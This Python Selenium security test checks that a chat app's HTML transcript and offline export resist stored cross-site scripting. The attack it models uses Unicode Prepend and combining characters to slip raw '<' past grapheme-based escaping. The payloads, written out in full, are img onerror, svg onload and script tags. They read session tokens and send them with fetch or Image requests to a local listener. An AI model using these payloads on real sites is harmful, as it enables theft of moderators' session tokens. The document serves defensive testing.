#!/usr/bin/env python3
"""A stored-script attack on the HTML transcript, in real Chromium (Selenium).

The attack (found by an outside review): the HTML transcript escaped text by Swift `Character`s (grapheme
clusters). A Prepend scalar glues itself to the next character, so `"\\u0600<"` is one `Character`, not
equal to `"<"`, and a raw `<` reached the page. A freelancer posts such a line, opens a dispute, and the
moderator opens the full transcript from the web page: the transcript (a `blob:` document in the server's
origin, opened with `window.opener` set and a copy of the page's sessionStorage) runs the freelancer's
script, which reads the moderator's token and sends it away.

What this test does, against the real binary:
  1. starts `milestone-bot serve --demo --port 0` on a temporary database (buyer alice, freelancer bob,
     moderator mia on the contract `demo`), with a known signing secret so it can mint HS256 tokens;
  2. starts an "attacker" HTTP listener on a free loopback port that records every request it gets;
  3. as bob (a real WebSocket client), posts payloads: Prepend scalars (U+0600, U+0601, U+06DD, U+110BD)
     before `<` and `>`, Extend/ZWJ scalars (U+0301, U+094D, U+200D) before `<`, `<img onerror>`,
     `<svg onload>` and `<script>` variants, using `fetch(...)` and `new Image().src = ...` towards the
     listener; alice funds M1 and bob disputes it (the reason is a payload too);
  4. as mia in Chromium: opens the page signed in (`/#token=...`), selects the thread, clicks
     `#transcript-open`, switches to the new window and waits 3 s;
  5. checks: the listener got nothing; no `img`/`script` element in the transcript's `#messages`, no
     script and no event-handler attribute anywhere in it; every payload shown literally as text;
     `window.opener` is null there; the token cannot be read from the transcript window;
  6. stops the server and attacks the offline export (`milestone-bot export --format html`) opened as a
     file:// page: nothing reaches the listener, no `img`/`script` in `#messages`, payloads literal;
  7. checks the response headers: the transcript's `Content-Security-Policy` holds `sandbox` and
     `default-src 'none'`, with `X-Content-Type-Options: nosniff`; `GET /` has a policy with
     `frame-ancestors 'none'` and no `'unsafe-inline'` for scripts, and `nosniff`; API JSON answers carry
     `Cache-Control: no-store`.

Needs: the binary (`swift build --product milestone-bot`), pip `selenium` and `websockets`, Debian
`chromium` and `chromium-driver`.
Run from anywhere: python3 Tests/WebPage/transcript_attack_test.py  (HEADFUL=1 to watch).
Environment: MILESTONE_BOT, the server binary (default .build/debug/milestone-bot, relative to the repo root).
Prints one line per check and ends with `N passed, M failed`; exits non-zero on any failure.
"""
import asyncio
import functools
import http.server
import os
import re
import secrets
import signal
import sys
import threading
import time
import traceback
from pathlib import Path

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
import harness as H  # noqa: E402
from harness import js_wait, wait  # noqa: E402

H.require("selenium", "websockets")
from selenium.webdriver.common.by import By  # noqa: E402

SECRET = secrets.token_hex(32)
API_KEY = "transcript-attack-api-key-" + secrets.token_hex(16)
THREAD = "demo"
TOKEN_KEY = "milestone-bot.token"   # where app.js keeps the token (sessionStorage)
OVERALL_SECONDS = 110               # the whole test, hard limit

REPORT = H.Report(gap=" ", sep=": ", limit=600)
check, note = REPORT.check, REPORT.note
mint = functools.partial(H.mint, SECRET)


# --------------------------------------------------------------------------- HTTP headers


def csp_directives(policy):
    """{directive name: [values]} of a Content-Security-Policy header (several policies joined by ',')."""
    directives = {}
    for part in re.split(r"[;,]", policy or ""):
        words = part.strip().split()
        if words:
            directives.setdefault(words[0].lower(), []).extend(words[1:])
    return directives


# --------------------------------------------------------------------------- the attacker's listener


class Listener:
    """Records every request that reaches it (any method), and answers 204 to anyone."""

    def __init__(self):
        self.requests = []
        self.lock = threading.Lock()
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def record(self):
                with owner.lock:
                    owner.requests.append({"method": self.command, "path": self.path,
                                           "origin": self.headers.get("Origin"), "at": time.time()})
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Private-Network", "true")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_OPTIONS = do_HEAD = record

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True)
        self.thread.start()

    def since(self, index):
        with self.lock:
            return list(self.requests[index:])

    def count(self):
        with self.lock:
            return len(self.requests)

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


def describe(requests):
    return "; ".join(f"{r['method']} {r['path'][:120]} (Origin {r['origin']})" for r in requests)


# --------------------------------------------------------------------------- the payloads


def payloads(port):
    """(label, text) of each chat line bob posts. Every fetch goes to the listener, on its own path."""
    base = f"http://127.0.0.1:{port}"
    steal = "encodeURIComponent(JSON.stringify({o:window.opener?window.opener.sessionStorage:null,s:sessionStorage}))"
    return [
        # The review's line as reported (a double-quoted handler).
        ("U+0600 before < and >, quoted onerror (the reported line)",
         "ok \u0600<img src=x onerror=\"fetch('" + base + "/steal1?t='+encodeURIComponent(JSON.stringify("
         "window.opener?window.opener.sessionStorage:{})))\">//\u0600>"),
        # Unquoted handler: the escaped ' (&#39;) is decoded back inside an attribute value, so this one runs.
        ("U+0600 before < and >, unquoted onerror with fetch",
         "ok \u0600<img src=x onerror=fetch('" + base + "/steal2?t='+" + steal + ")//\u0600>"),
        ("U+0601 before < and >, onerror with new Image().src",
         "ok \u0601<img src=x onerror=new/**/Image().src='" + base + "/img3?t='+encodeURIComponent(sessionStorage.getItem('"
         + TOKEN_KEY + "'))//\u0601>"),
        ("U+0600 <script> element (fetch and new Image)",
         "ok \u0600<script \u0600>fetch(`" + base + "/script4`);new Image().src=`" + base + "/script4img`//\u0600</script \u0600>"),
        ("U+06DD before <svg onload>",
         "ok \u06dd<svg/onload=fetch('" + base + "/svg5')//\u06dd>"),
        ("U+110BD (Kaithi number sign) before < and >",
         "ok \U000110bd<img src=x onerror=fetch('" + base + "/prepend6')//\U000110bd>"),
        ("U+0301 (combining acute) before < and >",
         "ok \u0301<img src=x onerror=fetch('" + base + "/extend7')//\u0301>"),
        ("U+094D (virama) before < and >",
         "ok \u094d<img src=x onerror=fetch('" + base + "/virama8')//\u094d>"),
        ("U+200D (ZWJ) before < and >",
         "ok \u200d<img src=x onerror=new/**/Image().src='" + base + "/zwj9'//\u200d>"),
        ("combining acute after > (a raw > for the tag's end)",
         "ok \u0600<img src=x onerror=fetch('" + base + "/after10')//>\u0301"),
    ]


def dispute_reason(port):
    return ("the brief changed \u0600<img src=x onerror=fetch('http://127.0.0.1:" + str(port)
            + "/dispute11?t='+encodeURIComponent(sessionStorage.getItem('" + TOKEN_KEY + "')))//\u0600>")


# --------------------------------------------------------------------------- WebSocket clients


async def line(client, client_id, text):
    """The ack (or the error frame) of one line in THREAD; a rate-limited line is resent with the same id."""
    for _ in range(5):
        answer = await client.send(THREAD, text, cid=client_id, timeout=15)
        if answer.get("type") == "error" and answer.get("code") == "rate_limited":
            await asyncio.sleep(1.2)
            continue
        return answer
    return answer


async def post_the_attack(port, lines, reason):
    alice = await H.Client(port, mint("alice", "buyer"), "alice").connect()
    bob = await H.Client(port, mint("bob", "freelancer"), "bob").connect()
    try:
        for client, who in ((alice, "alice"), (bob, "bob")):
            joined = await client.join(THREAD, 15, strict=False)
            check(f"{who} joins the thread over WebSocket", joined.get("type") == "joined", joined)
        for index, (label, text) in enumerate(lines):
            ack = await line(bob, f"attack-{index}", text)
            check(f"bob posts payload {index + 1} ({label})",
                  ack.get("type") == "ack" and ack.get("outcome") == "chat", ack)
        ack = await line(alice, "fund-m1", "/fund M1")
        check("alice funds M1", ack.get("type") == "ack" and ack.get("outcome") == "applied", ack)
        ack = await line(bob, "dispute-m1", "/dispute M1 " + reason)
        check("bob disputes M1 with a payload as the reason", ack.get("type") == "ack" and ack.get("outcome") == "applied", ack)
    finally:
        await alice.close()
        await bob.close()


# --------------------------------------------------------------------------- the browser


# What a transcript document holds: elements in #messages, script anywhere, on* attributes anywhere, text.
INSPECT_TRANSCRIPT = """
const table = document.querySelector('#messages');
const handlers = [];
for (const node of document.querySelectorAll('*')) {
  for (const attribute of Array.from(node.attributes)) {
    if (/^on/i.test(attribute.name)) handlers.push(node.tagName.toLowerCase() + '[' + attribute.name + ']');
  }
}
return {
  url: location.href,
  hasTable: !!table,
  tableText: table ? table.textContent : '',
  injected: table ? Array.from(table.querySelectorAll('img, script, svg, iframe, object, embed'))
                      .map(n => n.tagName.toLowerCase()) : [],
  scripts: document.querySelectorAll('script').length,
  handlers: handlers,
};
"""

# Where the token can be read from the transcript window (nothing should answer).
TOKEN_REACH = """
const token = arguments[0];
const found = [];
const scan = (storage, where) => {
  for (let i = 0; i < storage.length; i++) {
    const key = storage.key(i);
    if (String(storage.getItem(key) || '').includes(token)) found.push(where + ':' + key);
  }
};
try { scan(window.sessionStorage, 'sessionStorage'); } catch (e) {}
try { scan(window.localStorage, 'localStorage'); } catch (e) {}
try { if (window.opener) { scan(window.opener.sessionStorage, 'opener.sessionStorage'); } } catch (e) {}
try { if (document.documentElement.outerHTML.includes(token)) found.push('document'); } catch (e) {}
try { if (location.href.includes(token)) found.push('location'); } catch (e) {}
return found;
"""


def inspect_transcript(driver, where, lines, listener, since):
    """The checks shared by the served transcript and the offline export."""
    info = driver.execute_script(INSPECT_TRANSCRIPT)
    got = listener.since(since)
    check(f"{where}: the attacker's listener got no request", not got, describe(got))
    check(f"{where}: no img or script element inside #messages", info["hasTable"] and not info["injected"],
          f"#messages found: {info['hasTable']}, injected: {info['injected']}")
    check(f"{where}: no script element and no event-handler attribute anywhere",
          info["scripts"] == 0 and not info["handlers"], f"scripts {info['scripts']}, handlers {info['handlers']}")
    for index, (label, text) in enumerate(lines):
        check(f"{where}: payload {index + 1} shown literally as text ({label})", text in info["tableText"],
              "not found in the text of #messages")
    return info


def main():
    missing = H.binary_missing()
    if missing:
        check("binary", False, missing)
        return REPORT.finish()

    def out_of_time(*_):
        raise TimeoutError(f"the test took longer than {OVERALL_SECONDS} s")
    signal.signal(signal.SIGALRM, out_of_time)
    signal.alarm(OVERALL_SECONDS)

    server = H.Server({"LOG_LEVEL": "warning"}, secret=SECRET, api_key=API_KEY, prefix="transcript-attack-",
                      database="attack.sqlite", grace=15)
    listener = Listener()
    driver = None
    note(f"binary {H.binary()}; attacker's listener on 127.0.0.1:{listener.port}")
    lines = payloads(listener.port)
    reason = dispute_reason(listener.port)
    literal = lines + [("the dispute command with its reason", "/dispute M1 " + reason)]
    try:
        server.start()
        note(f"server on 127.0.0.1:{server.port}, database {server.db}")
        mia = mint("mia", "moderator")

        # 3. The freelancer plants the lines and disputes; the buyer funds first (Indeelancer: money is held).
        asyncio.run(asyncio.wait_for(post_the_attack(server.port, lines, reason), 60))

        # 7. Headers (before the browser, so that a missing header shows even if the browser part breaks).
        status, headers, body = H.http(server.port, "GET", f"/api/contracts/{THREAD}/transcript?format=html", token=mia,
                                       timeout=10)
        check("GET transcript?format=html as the moderator answers 200 with HTML",
              status == 200 and "text/html" in headers.get("content-type", ""), f"{status} {headers.get('content-type')}")
        csp = headers.get("content-security-policy", "")
        directives = csp_directives(csp)
        check("transcript: Content-Security-Policy has sandbox", "sandbox" in directives, f"CSP: {csp!r}")
        check("transcript: Content-Security-Policy has default-src 'none'",
              directives.get("default-src") == ["'none'"], f"CSP: {csp!r}")
        check("transcript: X-Content-Type-Options: nosniff",
              headers.get("x-content-type-options", "").lower() == "nosniff", headers.get("x-content-type-options"))
        raw = body.decode("utf-8", "replace")
        check("transcript: the served HTML has no raw <img or <script from the chat lines",
              not re.search(r"<\s*(img|script|svg)\b", raw, re.I), re.findall(r".{0,20}<\s*(?:img|script|svg)\b.{0,40}", raw, re.I)[:3])

        status, headers, _ = H.http(server.port, "GET", "/", timeout=10)
        csp = headers.get("content-security-policy", "")
        directives = csp_directives(csp)
        scripts = directives.get("script-src", directives.get("default-src"))
        check("GET /: answers 200", status == 200, status)
        check("GET /: Content-Security-Policy has frame-ancestors 'none'",
              directives.get("frame-ancestors") == ["'none'"], f"CSP: {csp!r}")
        check("GET /: Content-Security-Policy restricts scripts without 'unsafe-inline'",
              scripts is not None and "'unsafe-inline'" not in scripts and "*" not in scripts, f"CSP: {csp!r}")
        check("GET /: X-Content-Type-Options: nosniff",
              headers.get("x-content-type-options", "").lower() == "nosniff", headers.get("x-content-type-options"))
        for path in ("/api/threads", f"/api/contracts/{THREAD}", f"/api/contracts/{THREAD}/messages", "/api/disputes"):
            status, headers, _ = H.http(server.port, "GET", path, token=mia, timeout=10)
            cache = headers.get("cache-control", "")
            check(f"GET {path}: Cache-Control: no-store", status == 200 and "no-store" in cache.lower(), f"{status} {cache!r}")

        # 4. The moderator opens the page, selects the thread and opens the full transcript.
        driver = H.browser(page_load_timeout=20, script_timeout=10)
        driver.get(f"http://127.0.0.1:{server.port}/#token={mia}")
        online = wait(driver, lambda d: d.find_element(By.ID, "conn").get_attribute("data-state") == "online", 15)
        check("mia: the page connects as the moderator", online and "mia" in driver.find_element(By.ID, "who").text)
        thread_button = wait(driver, lambda d: d.find_elements(By.CSS_SELECTOR, f"#threads button[data-thread='{THREAD}']"), 10)
        if thread_button:
            thread_button[0].click()
        disputed = js_wait(driver, "const li = document.querySelector('#milestones li[data-milestone=\"M1\"]');"
                                   "return !!li && li.dataset.state === 'disputed';", 10)
        check("mia: the thread is open and M1 shows disputed", disputed)
        shown = wait(driver, lambda d: d.execute_script(
            "const t = Array.from(document.querySelectorAll('#messages li .text')).map(n => n.textContent);"
            "return arguments[0].every(p => t.some(x => x.includes(p)));", [text for _, text in literal]), 10)
        check("mia: the chat page shows every payload as text (not HTML)",
              shown and not driver.find_elements(By.CSS_SELECTOR, "#messages img, #messages script, #messages svg"))

        main_window = driver.current_window_handle
        before = set(driver.window_handles)
        marker = listener.count()
        driver.find_element(By.ID, "transcript-open").click()
        opened = wait(driver, lambda d: [h for h in d.window_handles if h not in before], 10)
        if check("mia: 'Open full transcript' opens a new window", opened):
            driver.switch_to.window(opened[0])
            loaded = js_wait(driver, "return location.protocol !== 'about:' && document.readyState === 'complete'"
                                     " && !!document.querySelector('h1, #messages');", 10)
            check("transcript window: the transcript loads", loaded, driver.execute_script("return location.href"))
            time.sleep(3)   # time for any injected handler to fire and reach the listener
            info = inspect_transcript(driver, "transcript window", literal, listener, marker)
            note(f"transcript window URL: {info['url'][:80]}")
            check("transcript window: window.opener is null", driver.execute_script("return window.opener === null"),
                  "the transcript window can reach the moderator's page through window.opener")
            # Its one style block runs (the page's policy, which a blob: document inherits, allows it by hash):
            # multi-line messages keep their line breaks.
            styled = driver.execute_script(
                "const b = document.querySelector('#messages td.body');"
                " return b ? getComputedStyle(b).whiteSpace : null;")
            check("transcript window: its style applies (message text pre-wrap)", styled == "pre-wrap", f"white-space: {styled}")
            reach = driver.execute_script(TOKEN_REACH, mia)
            check("transcript window: the moderator's token cannot be read from it", not reach,
                  "token readable via " + ", ".join(reach))
            driver.close()
            driver.switch_to.window(main_window)
        else:
            check("transcript window: the attacker's listener got no request", not listener.since(marker),
                  describe(listener.since(marker)))
        kept = driver.execute_script("return sessionStorage.getItem(arguments[0])", TOKEN_KEY)
        check("mia: the token is still in the moderator's page (and only there)", kept == mia,
              "the moderator's page lost its token" if kept != mia else "")
        leaked = [r for r in listener.since(0) if mia in r["path"] or "milestone-bot" in r["path"]]
        check("no request anywhere carried the moderator's token", not leaked, describe(leaked))

        # 6. The offline export, opened from disk.
        server.stop()
        export = os.path.join(server.tmpdir, "export.html")
        result = H.run_bot("export", "--database", server.db, "--thread", THREAD, "--format", "html",
                           "--output", export, timeout=60)
        if check("milestone-bot export --format html writes the transcript",
                 result.returncode == 0 and os.path.exists(export), (result.stderr or result.stdout)[-400:]):
            marker = listener.count()
            driver.get(Path(export).as_uri())
            js_wait(driver, "return document.readyState === 'complete'", 10)
            time.sleep(3)
            inspect_transcript(driver, "offline export (file://)", literal, listener, marker)
    except Exception:
        traceback.print_exc()
        check("the test ran to the end", False)
    finally:
        signal.alarm(0)
        if driver is not None:
            try:
                driver.quit()
            except Exception:
                pass
        server.close()
        listener.stop()
    return REPORT.finish()


if __name__ == "__main__":
    sys.exit(main())
